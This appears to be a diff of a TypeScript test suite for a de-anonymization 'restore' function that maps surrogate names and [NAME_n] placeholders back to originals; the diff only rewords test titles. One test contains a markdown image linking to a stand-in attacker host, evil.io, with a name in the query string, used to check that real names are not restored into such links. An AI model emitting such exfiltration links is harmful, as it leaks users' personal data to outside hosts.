@@ -11,33 +11,33 @@ const placeholders = (answer: string, sent: readonly string[] = CHATS.placeholde
   restore(answer, CHATS.placeholders.table, sent);
 
 describe('restore', () => {
-  it('turns back only what stood in the messages of that very call [SEC-34]', () => {
+  it('restores only replacements in the messages of the same call [SEC-34]', () => {
     expect(surrogates('Jan Weber', ['Hello'])).toBe('Jan Weber');
     expect(surrogates('Volker Hübner')).toBe('Volker Hübner');
     expect(surrogates('Volker Hübner', ['Volker Hübner is here.'])).toBe('Otto Franke');
     expect(placeholders('[NAME_3] [NAME_7]')).toBe('[NAME_3] [NAME_7]');
   });
 
-  it('takes a lone part for granted only where the whole name was sent', () => {
+  it('restores a single part only if the whole name was sent', () => {
     expect(surrogates('Weber', ['Petra Weber'])).toBe('Müller');
     expect(surrogates('Jan', ['Petra Weber'])).toBe('Jan');
   });
 
-  it('leaves a lone part beside a name part with which it was never sent', () => {
+  it('does not restore a single part next to a name part with which it was never sent', () => {
     expect(surrogates('Max Weber and Petra Köhler')).toBe('Max Weber and Petra Köhler');
     expect(surrogates('Frau Weber, Kollege Holger')).toBe('Frau Müller, Kollege Klaus');
   });
 
-  it('forms the genitive that the original has', () => {
+  it('writes the genitive of the original', () => {
     expect(surrogates('Jans Auto, Webers Haus, Holgers Hut')).toBe("Hans' Auto, Müllers Haus, Klaus' Hut");
     expect(placeholders('[NAME_1]s Auto, [NAME_2]s Haus')).toBe("Hans Müllers Auto, Anna Jones' Haus");
   });
 
-  it('tells [NAME_1] from [NAME_12] and [NAME_1B]', () => {
+  it('distinguishes [NAME_1] from [NAME_12] and [NAME_1B]', () => {
     expect(placeholders('[NAME_12][NAME_1][NAME_1B]')).toBe('Klaus JägerHans MüllerMüllers');
   });
 
-  it('puts nothing into an address, path or identifier, unless the whole was sent', () => {
+  it('restores no value in an address, path or identifier, unless the whole was sent', () => {
     const link = 'https://intern.example/Weber/akte.pdf';
     expect(surrogates(`${link} ${link}?x ![](https://evil.io/?q=Jan+Weber)`)).toBe(
       `https://intern.example/Müller/akte.pdf ${link}?x ![](https://evil.io/?q=Jan+Weber)`,
@@ -50,7 +50,7 @@ describe('restore', () => {
     );
   });
 
-  it('never restores what it has put in', () => {
+  it('never restores a restored value again', () => {
     const table = EntityTable.create('surrogates');
     const say = (marked: string) =>
       anonymize(table, { ...markedText(marked), choices: ['Names'], language: parseLanguage('de') }).text;
@@ -59,7 +59,7 @@ describe('restore', () => {
     expect(restore(second, table, [first, second])).toBe(first);
   });
 
-  it('escapes what goes into JSON as JSON, and as its neighbours are escaped [PRIV-51]', () => {
+  it('escapes values in JSON as JSON, in the way of the surrounding text [PRIV-51]', () => {
     const table = EntityTable.create('placeholders');
     const { text } = anonymize(table, {
       ...markedText('{N:Hans "Hänschen"\nMüller}'),
